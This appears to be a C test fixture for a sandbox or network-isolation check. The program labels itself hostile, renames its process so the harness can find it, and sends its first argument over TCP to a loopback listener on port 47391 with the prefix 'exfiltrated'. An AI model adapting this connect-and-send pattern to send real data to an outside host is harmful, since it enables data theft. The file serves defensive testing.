/* Hostile: sends its input out over TCP to a listener on this machine
 * (port 47391, where the test listens) before doing anything else. */
#define _GNU_SOURCE
#include <sys/prctl.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    prctl(PR_SET_NAME, "mlh-network", 0, 0, 0); /* survivors are found by this name */
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(47391);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (s >= 0 && connect(s, (struct sockaddr *)&a, sizeof a) == 0) {
        char msg[256];
        int n = snprintf(msg, sizeof msg, "exfiltrated %s\n", argc > 1 ? argv[1] : "?");
        if (write(s, msg, (size_t)n) < 0) perror("write");
        close(s);
        return 0;
    }
    perror("connect");
    return 1;
}
